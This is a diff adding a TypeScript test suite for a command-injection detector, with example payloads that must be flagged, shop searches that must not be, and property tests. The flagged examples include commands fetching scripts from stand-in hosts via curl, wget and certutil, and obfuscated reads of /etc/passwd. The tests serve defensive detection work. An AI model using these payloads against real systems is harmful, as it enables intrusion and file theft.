@@ -1,0 +1,114 @@
+// Command injection read as a shell reads it (detect/cmdi.ts): substitutions, commands after
+// separators, commands with shell arguments, batch syntax, brace expansion and globs are found
+// through quote and backslash tricks; shop searches and filters are not. Properties: quoting
+// tricks inside a command word do not hide it; ordinary words and numbers never match.
+
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import fc from 'fast-check';
+import { detectCmdi } from '../../../src/detect/cmdi.ts';
+import { matchStructure } from '../../../src/detect/structure.ts';
+
+test('injection shapes are found', () => {
+  for (const s of [
+    ';id',
+    '127.0.0.1|whoami',
+    'x && curl http://198.51.100.7/a.sh',
+    'x%0a'.replace('%0a', '\n') + 'wget http://a.example/x',
+    '$(uname -a)',
+    '`cat /etc/hosts`',
+    '<(cat file)',
+    '${PATH#{}/}',
+    "w''ho''am''i",
+    'c\\at /etc/passwd',
+    'cat${IFS}/etc/passwd',
+    'ls -la /',
+    'ping -c 3 192.0.2.1',
+    'sleep 5',
+    '/usr/bin/perl -e "print 1"',
+    '& FOR /F "delims=" %i IN (\'whoami\') DO echo %i',
+    'for %%f in (*.TXT) do TYPE %%f',
+    'IF EXIST C:\\pagefile.sys (CMD) ELSE (CMD)',
+    'IF /I "%var%" LEQ "1" ECHO less',
+    '{cat,/etc/passwd}',
+    '/e?c/pa[s]swd',
+    '/usr/[a-z]in/bash',
+    'Invoke-WebRequest http://example.com/a.ps1',
+    '; certutil -urlcache -f http://evil.example/p.exe',
+    'whoami',
+  ])
+    assert.notEqual(detectCmdi(s), null, s);
+});
+
+test('shop searches, filters and prose are not commands', () => {
+  for (const s of [
+    'cat food',
+    'cat 5 cable',
+    'id',
+    'id 5',
+    'sort=id',
+    'php',
+    'red|blue',
+    'tom & jerry',
+    'black;white',
+    'exec chair',
+    'ping pong table',
+    'set of 4 mugs',
+    'type a=b',
+    'rock & roll',
+    'data:image/png;base64,iVBORw0KGgo=',
+    'for sale in london',
+    'if you like it',
+    '{{gift}}',
+    '/catalog/*/view',
+    'summer-sale-2024',
+  ])
+    assert.equal(detectCmdi(s), null, s);
+});
+
+test('the rule condition finds it in a path segment, a query value and JSON in a parameter', () => {
+  assert.match(matchStructure('cmdi', 'target', '/ping?ip=127.0.0.1%3Bcat%20/etc/passwd') ?? '', /command cat after ;/);
+  assert.match(matchStructure('cmdi', 'target', '/api/v1/x;whoami') ?? '', /whoami/);
+  assert.match(matchStructure('cmdi', 'target', '/r?q={"a":"$(id)"}') ?? '', /substitution/);
+  assert.equal(matchStructure('cmdi', 'target', '/search?q=cat+food&page=2'), null);
+});
+
+const commands = ['whoami', 'uname', 'wget', 'curl', 'netstat', 'ifconfig', 'certutil'];
+
+test('property: quotes, backslashes and $@ inside a command after a separator do not hide it', () => {
+  fc.assert(
+    fc.property(
+      fc.constantFrom(...commands),
+      fc.constantFrom(';', '|', '&&', '||', '\n'),
+      fc.array(fc.constantFrom("''", '""', '$@'), { minLength: 0, maxLength: 3 }),
+      fc.boolean(),
+      fc.nat(),
+      (cmd, sep, tricks, backslash, at) => {
+        fc.pre(tricks.length > 0 || backslash);
+        const i = 1 + (at % (cmd.length - 1));
+        // a backslash escapes the next letter (a no-op); before a quote it would escape the quote
+        const spelled = cmd.slice(0, i) + tricks.join('') + (backslash ? '\\' : '') + cmd.slice(i);
+        assert.notEqual(detectCmdi(`x${sep}${spelled} -a`), null, `x${sep}${spelled}`);
+      },
+    ),
+  );
+});
+
+test('property: words and numbers without shell syntax never match', () => {
+  fc.assert(
+    fc.property(
+      fc.array(fc.oneof(fc.stringMatching(/^[a-z]{1,10}$/), fc.integer({ min: 0, max: 9999 }).map(String)), {
+        minLength: 1,
+        maxLength: 6,
+      }),
+      (words) => {
+        const s = words.join(' ');
+        // a recon command alone, or a lead command with a number, is a command on purpose
+        fc.pre(!/^(?:whoami|ifconfig|ipconfig|systeminfo|tasklist|netstat|uname)$/.test(s));
+        fc.pre(!/^(?:sleep|ping|timeout) \d+$/.test(s));
+        assert.equal(detectCmdi(s), null, s);
+      },
+    ),
+    { numRuns: 2000 },
+  );
+});
